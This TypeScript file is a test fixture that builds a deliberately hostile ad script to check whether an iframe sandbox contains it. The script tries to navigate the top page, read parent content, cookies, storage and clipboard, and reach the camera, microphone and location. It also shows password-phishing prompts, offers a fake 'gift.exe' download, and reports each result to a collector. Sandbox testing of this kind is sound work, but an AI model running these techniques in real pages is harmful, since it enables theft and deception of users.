/**
 * A hostile advertisement: tries to get out of its frame in every way it knows, and tells a collector
 * of the test how each went.
 */

interface Targets {
  /** Origin of the collector. */
  readonly collector: string
  /** Origin of the page around the frame. */
  readonly page: string
}

/** Runs in the frame: without a click first, and once more with each. */
function attack({ collector, page }: Targets): void {
  const PATIENCE_MS = 5_000
  // Whatever becomes of the frame meanwhile, the report leaves.
  const tell = (report: object) =>
    fetch(`${collector}/report`, {
      method: 'POST',
      body: JSON.stringify(report),
      keepalive: true,
    }).catch(() => undefined)

  /** Whoever waits for an answer that never comes has lost as well. */
  async function attempt(name: string, action: () => unknown): Promise<void> {
    const late = new Promise((_, reject) =>
      setTimeout(() => reject(new Error('no answer')), PATIENCE_MS),
    )
    try {
      const got = await Promise.race([action(), late])
      const won = got !== undefined && got !== null && got !== false && got !== ''
      await tell({ name, won, how: String(got) })
    } catch (error) {
      await tell({ name, won: false, how: String(error) })
    }
  }

  const element = <T extends keyof HTMLElementTagNameMap>(
    tag: T,
    properties: Readonly<Record<string, string | boolean>> = {},
  ): HTMLElementTagNameMap[T] => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(properties)) made.setAttribute(name, String(value))
    document.body.append(made)
    return made
  }
  const outer = parent as unknown as Record<string, unknown> & Window

  /** Going elsewhere is seen by the collector, and nowhere else. */
  const NAVIGATIONS: Readonly<Record<string, () => unknown>> = {
    'the page, by script': () => void (outer.top!.location.href = `${collector}/escaped/href`),
    'the page, by replace': () => outer.location.replace(`${collector}/escaped/replace`),
    'the page, by assign': () => void (outer.location = `${collector}/escaped/assign`),
    'the page, by open': () => void open(`${collector}/escaped/open`, '_top'),
    'the page, by a link': () =>
      element('a', { href: `${collector}/escaped/link`, target: '_top' }).click(),
    "the page, by a link to the frame's parent": () =>
      element('a', { href: `${collector}/escaped/parent`, target: '_parent' }).click(),
    'the page, by a form': () =>
      element('form', { action: `${collector}/escaped/form`, target: '_top' }).submit(),
    'the page, by code in an address': () =>
      void (outer.location.href = `javascript:fetch("${collector}/escaped/javascript")`),
    'a form of its own': () =>
      element('form', { action: `${collector}/escaped/own-form`, method: 'post' }).submit(),
    'a download': () => element('a', { href: 'data:,gift', download: 'gift.exe' }).click(),
  }

  const READING: Readonly<Record<string, () => unknown>> = {
    "the page's document": () => outer.document.body.innerHTML,
    'a variable of the page': () => String(outer['harm']),
    'writing into the page': () => {
      outer['stolen'] = true
      return outer['stolen']
    },
    "the page's address": () => outer.location.href,
    "the page's frame element": () => frameElement?.outerHTML,
    "the page's storage": () => outer.localStorage.length + 1,
    'where it comes from': () => document.referrer,
    'the same site, by another domain': () => {
      document.domain = new URL(page).hostname
      return document.domain
    },
    cookies: () => {
      document.cookie = 'a=b'
      return document.cookie
    },
    'the local storage': () => {
      localStorage.setItem('a', 'b')
      return localStorage.getItem('a')
    },
    'the session storage': () => {
      sessionStorage.setItem('a', 'b')
      return sessionStorage.getItem('a')
    },
    'a database': () =>
      new Promise((resolve, reject) => {
        const asked = indexedDB.open('a')
        asked.onsuccess = () => resolve('opened')
        asked.onerror = () => reject(asked.error ?? new Error('refused'))
      }),
    'a cache': async () => (await caches.open('a')) && 'opened',
    'private files': async () => (await navigator.storage.getDirectory()) && 'opened',
    'a service worker': async () =>
      (await navigator.serviceWorker.register('/worker.js')) && 'there',
    'a shared worker': () =>
      new Promise((resolve, reject) => {
        const worker = new SharedWorker(`${page}/worker.js`)
        worker.onerror = () => reject(new Error('refused'))
        worker.port.onmessage = () => resolve('there')
      }),
    'the page, by fetch': async () => (await fetch(`${page}/`)).text(),
    'the page, by request': () =>
      new Promise((resolve, reject) => {
        const asked = new XMLHttpRequest()
        asked.onload = () => resolve(asked.responseText)
        asked.onerror = () => reject(new Error('refused'))
        asked.open('GET', `${page}/`)
        asked.send()
      }),
    'the socket for visitors': () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${page.replace('http', 'ws')}/signal`)
        socket.onopen = () => resolve('open')
        socket.onclose = () => reject(new Error('closed'))
      }),
    'a frame with the page in it': () =>
      new Promise((resolve) => {
        const frame = element('iframe', { src: `${page}/`, name: 'inner' })
        // A refusal loads as well, and is another's: what is in there, the test looks at.
        frame.onload = () => resolve(frame.contentDocument?.body.innerHTML)
      }),
  }

  const DEVICES: Readonly<Record<string, () => unknown>> = {
    'the camera': async () =>
      (await navigator.mediaDevices.getUserMedia({ video: true })).getTracks().length,
    'the microphone': async () =>
      (await navigator.mediaDevices.getUserMedia({ audio: true })).getTracks().length,
    'the screen': async () => (await navigator.mediaDevices.getDisplayMedia()).getTracks().length,
    'where one is': () =>
      new Promise((resolve, reject) =>
        navigator.geolocation.getCurrentPosition(
          ({ coords }) => resolve(coords.latitude),
          (error) => reject(new Error(error.message)),
        ),
      ),
    notifications: async () => (await Notification.requestPermission()) === 'granted',
    'what was copied': async () => `read: ${await navigator.clipboard.readText()}`,
    'who one is': async () =>
      navigator.credentials.get({
        publicKey: { challenge: new Uint8Array(16), timeout: 1_000 },
      }),
    'a sensor': () =>
      new Promise((resolve, reject) => {
        addEventListener('devicemotion', () => resolve('moved'))
        const { Accelerometer } = globalThis as unknown as {
          Accelerometer: new () => EventTarget & { start(): void }
        }
        const sensor = new Accelerometer()
        sensor.addEventListener('reading', () => resolve('moved'))
        sensor.addEventListener('error', () => reject(new Error('refused')))
        sensor.start()
      }),
  }

  const SCREEN: Readonly<Record<string, () => unknown>> = {
    'the whole screen': async () => {
      await document.documentElement.requestFullscreen()
      return document.fullscreenElement?.tagName
    },
    'the pointer': async () => {
      await document.body.requestPointerLock()
      return document.pointerLockElement?.tagName
    },
    'keeping the screen on': async () => (await navigator.wakeLock.request()).type,
    'a picture above all': async () => {
      const video = element('video', { muted: true })
      return (await video.requestPictureInPicture()).width
    },
    'a question': () => confirm('Give me everything?'),
    'a question with an answer': () => prompt('Your password?', 'given'),
    'a warning': () => alert('You have won!'),
    printing: () => print(),
  }

  const all = (attempts: Readonly<Record<string, () => unknown>>, when: string) =>
    Promise.all(Object.entries(attempts).map(([name, action]) => attempt(`${name}${when}`, action)))

  async function uninvited(): Promise<void> {
    // What our own page might listen to, were there anything that listened.
    for (const data of ['find', '{"type":"find"}', { type: 'find' }, { type: 'find', adult: true }])
      outer.postMessage(data, '*')
    const field = element('input', { autofocus: true })
    focus()
    field.focus()
    // The page has long taken the keyboard back when all of these have been told.
    await all(READING, '')
    await attempt('the keyboard', () => document.hasFocus())
    await all(DEVICES, '')
    await all(SCREEN, '')
    await attempt('a window', () => open(`${collector}/escaped/window`) !== null)
    await all(NAVIGATIONS, '')
    await tell({ name: 'end', won: false, how: '' })
  }

  /** With the right that a click gives, which lasts for a moment and is used up by some. */
  const clicked: readonly (() => Promise<unknown>)[] = [
    () => Promise.all([NAVIGATIONS, SCREEN, DEVICES].map((one) => all(one, ', clicked'))),
    () =>
      attempt('what opens, reached from here', () => {
        const popup = open(`${collector}/popup`)
        return popup?.document.body.innerHTML
      }),
  ]
  // The first line is for the one, and what is below it for the other; each happens once.
  const begun = new Set<number>()
  addEventListener('click', ({ isTrusted, clientY }) => {
    const which = clientY < 60 ? 0 : 1
    // Its own clicks on its own links give it nothing.
    if (!isTrusted || begun.has(which)) return
    begun.add(which)
    void clicked[which]?.().then(() => tell({ name: `end ${which}`, won: false, how: '' }))
  })
  addEventListener('load', () => void uninvited())
}

/** In the window that a click opens: whether it reaches back, or is more than its opener was. */
function popupAttack(): void {
  const tries: Readonly<Record<string, () => unknown>> = {
    'its opener': () => opener && 'there',
    "its opener's page": () => (opener as Window).parent.document.title,
    'its cookies': () => {
      document.cookie = 'a=b'
      return document.cookie
    },
    'its storage': () => {
      localStorage.setItem('a', 'b')
      return localStorage.getItem('a')
    },
  }
  for (const [name, action] of Object.entries(tries)) {
    let report = { name: `a window, ${name}`, won: false, how: '' }
    try {
      const got = action()
      report = { ...report, won: got !== null && got !== '', how: String(got) }
    } catch (error) {
      report = { ...report, how: String(error) }
    }
    void fetch('/report', { method: 'POST', body: JSON.stringify(report), mode: 'no-cors' })
  }
}

const inScript = (code: string): string => `<script>${code.replaceAll('</', '<\\/')}</script>`

export const hostileSnippet = (targets: Targets): string =>
  `<p style="height: 120px; margin: 0">Click here</p>${inScript(`(${String(attack)})(${JSON.stringify(targets)})`)}`

/** What a click opens. */
export const POPUP = inScript(`(${String(popupAttack)})()`)
